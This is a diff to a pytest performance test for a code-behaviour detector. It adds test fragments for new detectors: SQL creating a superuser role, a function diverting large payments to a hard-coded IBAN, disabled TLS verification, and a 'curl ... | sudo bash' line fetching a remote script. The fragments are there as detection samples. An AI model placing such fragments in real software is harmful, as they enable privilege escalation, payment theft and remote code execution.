@@ -7,20 +7,36 @@ import pytest
 from driftseal.code.front_ends import lower
 from driftseal.code.project import Project
 from driftseal.limits import DEFAULT_LIMITS
-from driftseal.observe.behaviour import clipboard, cross_origin, passed_tokens, served, session_ids
+from driftseal.observe.behaviour import (
+    accounts,
+    clipboard,
+    cross_origin,
+    passed_tokens,
+    payees,
+    served,
+    session_ids,
+    snippets,
+)
 from driftseal.observe.behaviour.base import Fact
 from driftseal.observe.behaviour.whole import Code
 from growth import grows_linearly
 
 FINDS = {
+    "accounts.py": accounts.find,
     "clipboard.py": clipboard.find,
     "origins.js": cross_origin.find,
+    "payees.py": payees.find,
     "routes.go": served.find,
     "session.py": session_ids.find,
+    "snippets.py": snippets.find,
     "tokens.py": passed_tokens.find,
 }
 # Every other piece stands there as often as is wanted, ``#`` for its number.
 PIECES = {
+    "accounts.py": (
+        'A = "create role x login superuser"\ndef f(cur):\n',
+        "  for part# in A.split():\n    cur.execute(part#)\n",
+    ),
     "clipboard.py": ("import pyperclip\ndef f():\n  while True:\n", '    pyperclip.copy("a")\n'),
     "origins.js": (
         "app.use((req, res) => { const o = req.headers.origin;\n",
@@ -29,6 +45,11 @@ PIECES = {
 }
 """,
         "});\n",
+    ),
+    "payees.py": (
+        'OURS = {"EUR": "GB33BUKB20201555555555"}\ndef f(iban, amount):\n',
+        "  if amount > #:\n    return OURS.get(amount, iban)\n",
+        "  return iban\n",
     ),
     "routes.go": (
         "package main\nfunc f() {\n h := server.NewStreamableHTTPServer(s)\n",
@@ -39,6 +60,11 @@ PIECES = {
         'import random\ndef session_id():\n  x = ""\n',
         "  y# = random.random()\n  x += str(y#)\n",
         "  return x\n",
+    ),
+    "snippets.py": (
+        "A = [\n",
+        """  "s = requests.Session()\\ns.verify = False\\n#", "curl https://a.example/x.sh | sudo bash\\n#",\n""",
+        "]\n",
     ),
     "tokens.py": (
         "from fastmcp.server.dependencies import get_access_token\nimport httpx\ndef g(t):\n",
